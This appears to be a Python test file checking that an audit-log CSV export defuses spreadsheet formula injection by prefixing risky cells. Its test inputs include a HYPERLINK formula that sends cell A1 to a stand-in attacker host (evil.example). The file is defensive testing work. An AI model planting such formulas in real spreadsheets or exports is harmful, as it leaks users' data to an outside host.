"""The audit CSV export is safe to open in a spreadsheet: formula-like cells stay text."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from core import audit, db
from core.audit import Actor
from core.spreadsheet import neutralise
from tests.helpers import auth_headers


def test_formula_like_cells_are_prefixed() -> None:
    for cell in ('=HYPERLINK("https://evil.example","x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert neutralise(cell) == "'" + cell
    assert neutralise("plain") == "plain" and neutralise(42) == 42 and neutralise("a=b") == "a=b"


def test_the_audit_export_writes_no_live_formula(app_client: TestClient) -> None:
    attacker = Actor(type="user", id="9", name='=HYPERLINK("https://evil.example/?"&A1,"open")', ip="@10.0.0.1")
    with db.session_scope() as session:
        audit.record(session, actor=attacker, action="template.create", target_type="template", target_id="-1+2")
    response = app_client.get("/api/v1/audit/export.csv", headers=auth_headers("admin"))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    row = next(r for r in rows if r["action"] == "template.create")
    assert row["actor_name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"open")'
    assert row["target_id"] == "'-1+2" and row["ip"] == "'@10.0.0.1"
    for every in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in every.values())
